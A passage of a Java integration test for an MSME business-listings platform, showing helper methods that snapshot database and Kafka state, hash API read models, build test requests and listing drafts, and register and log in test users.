                    + "from information_schema.tables where table_name in ('domain_event_entry', 'event_hash_chain', "
                    + "'snapshot_event_entry', 'event_outbox')")) {
                while (rows.next()) {
                    tables.add(rows.getString(1));
                }
            }
            assertThat(tables).as("event store tables").isNotEmpty();
            for (String table : tables) {
                try (ResultSet digest = db.createStatement().executeQuery(
                        "select count(*), coalesce(md5(string_agg(t::text, '|' order by t::text)), '') from " + table + " t")) {
                    digest.next();
                    digests.put(table, digest.getLong(1) + ":" + digest.getString(2));
                }
            }
        }
        return digests;
    }

    private Map<String, Long> topicEnds() throws Exception {
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", platform.kafka().bootstrapServers()))) {
            Set<String> topics = admin.listTopics().names().get();
            Map<TopicPartition, OffsetSpec> latest = new LinkedHashMap<>();
            admin.describeTopics(topics.stream().filter(t -> t.startsWith("msme.")).toList()).allTopicNames().get()
                    .forEach((name, description) -> description.partitions().forEach(partition ->
                            latest.put(new TopicPartition(name, partition.partition()), OffsetSpec.latest())));
            Map<String, Long> ends = new TreeMap<>();
            admin.listOffsets(latest).all().get().forEach((partition, info) -> ends.put(partition.toString(), info.offset()));
            return ends;
        }
    }

    /** Every listing as an administrator sees it, in every state, page after page. */
    private String readModel() throws Exception {
        MessageDigest digest = MessageDigest.getInstance("SHA-256");
        String cursor = null;
        int listings = 0;
        do {
            HttpResponse<String> page = send(new Hostile("snapshot", "GET", "/api/msme/listings?limit=100"
                    + (cursor == null ? "" : "&cursor=" + cursor), admin));
            assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
            JsonNode body = JSON.readTree(page.body());
            for (JsonNode item : body.get("items")) {
                digest.update(item.toString().getBytes(StandardCharsets.UTF_8));
                listings++;
            }
            cursor = body.get("nextCursor").isNull() ? null : body.get("nextCursor").asString();
        } while (cursor != null);
        return listings + ":" + HexFormat.of().formatHex(digest.digest());
    }

    // ------------------------------------------------------------------ helpers

    /** One request: what it tries, and how it is sent. */
    private record Hostile(String name, String method, String path, String token, Map<String, String> headers,
            byte[] body, String contentType) {

        Hostile(String name, String method, String path, String token) {
            this(name, method, path, token, Map.of(), null, null);
        }

        Hostile header(String header, String value) {
            Map<String, String> more = new LinkedHashMap<>(headers);
            more.put(header, value);
            return new Hostile(name, method, path, token, more, body, contentType);
        }

        Hostile body(String type, String text) {
            return bytes(type, text.getBytes(StandardCharsets.UTF_8));
        }

        Hostile bytes(String type, byte[] bytes) {
            return new Hostile(name, method, path, token, headers, bytes, type);
        }

        Hostile json(Object value) {
            return body("application/json", toJson(value));
        }
    }

    private HttpResponse<String> send(Hostile request) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(platform.gatewayUrl() + request.path()))
                .timeout(Duration.ofSeconds(30))
                .method(request.method(), request.body() == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofByteArray(request.body()));
        if (request.contentType() != null && !request.contentType().isEmpty()) {
            builder.header("Content-Type", request.contentType());
        }
        if (request.token() != null) {
            builder.header("Authorization", "Bearer " + request.token());
        }
        request.headers().forEach(builder::header);
        try {
            return http.send(builder.build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new IllegalStateException(request.name() + " failed: " + e.getMessage(), e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private boolean valued(String listing) {
        HttpResponse<String> view = send(new Hostile("valued?", "GET", "/api/msme/listings/" + listing, admin));
        JsonNode valuation = JSON.readTree(view.body()).get("valuation");
        return view.statusCode() == 200 && valuation != null && !valuation.isNull();
    }

    private String create() {
        HttpResponse<String> created = send(new Hostile("create", "POST", "/api/msme/listings", seller).json(validDraft()));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        return JSON.readTree(created.body()).get("id").asString();
    }

    private String cursorOfNewest() {
        HttpResponse<String> page = send(new Hostile("page", "GET", "/api/msme/listings?limit=1", buyer));
        JsonNode cursor = JSON.readTree(page.body()).get("nextCursor");
        return cursor == null || cursor.isNull() ? "YzF8TkVXRVNUfDAwfHg" : cursor.asString();
    }

    private static Map<String, Object> validDraft() {
        Map<String, Object> draft = new LinkedHashMap<>();
        draft.put("title", "Hostile test unit");
        draft.put("legalName", "Shree Precision Components Pvt Ltd");
        draft.put("contact", Map.of("name", "Anil Kulkarni", "email", "anil@example.in"));
        draft.put("sectorCode", "25");
        draft.put("state", "Maharashtra");
        draft.put("city", "Pune");
        draft.put("yearEstablished", 2009);
        draft.put("employees", 42);
        draft.put("legalStructure", "PRIVATE_LIMITED");
        draft.put("plantAndMachineryInvestment", "32000000.00");
        draft.put("financials", List.of(Map.of("fiscalYear", 2025, "revenue", "84000000.00", "ebitda", "9500000.00")));
        draft.put("assets", "55000000");
        draft.put("debt", "12000000");
        draft.put("askingPrice", "65000000.00");
        draft.put("currency", "INR");
        draft.put("dealType", "FULL_SALE");
        draft.put("reasonForSale", "Founder retiring");
        draft.put("highlights", List.of("ISO 9001"));
        draft.put("description", "Precision machining.");
        return draft;
    }

    private static String toJson(Object value) {
        return JSON.writeValueAsString(value);
    }

    /** The text's UTF-8 with a lone continuation byte and an overlong encoding inside a string. */
    private static byte[] invalidUtf8(String json) {
        byte[] text = json.replaceFirst("\"title\":\"", "\"title\":\"@@").getBytes(StandardCharsets.UTF_8);
        String marker = new String(text, StandardCharsets.ISO_8859_1);
        int at = marker.indexOf("@@");
        text[at] = (byte) 0x80;
        text[at + 1] = (byte) 0xC0;
        return text;
    }

    private static String describe(Object value) {
        String text = value instanceof String s ? "\"" + s + "\"" : String.valueOf(value);
        text = text.replaceAll("[\\x00-\\x1f\\u202e\\ufeff]", "?");
        return text.length() > 40 ? text.substring(0, 37) + "… (" + text.length() + " chars)" : text;
    }

    private static String encode(String value) {
        return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private String signUp(String role) {
        String email = "hostile-" + role.toLowerCase(Locale.ROOT) + "-" + UUID.randomUUID() + "@example.in";
        HttpResponse<String> registered = send(new Hostile("register", "POST", "/api/auth/register", null).json(Map.of(
                "email", email, "password", PASSWORD, "displayName", "Hostile " + role, "role", role)));
        assertThat(registered.statusCode()).as(registered.body()).isEqualTo(201);
        return login(email, PASSWORD);
    }

    private String login(String email, String password) {
        HttpResponse<String> login = send(new Hostile("login", "POST", "/api/auth/login", null)
                .json(Map.of("email", email, "password", password)));
        assertThat(login.statusCode()).as(login.body()).isEqualTo(200);
        return JSON.readTree(login.body()).get("accessToken").asString();
    }

}
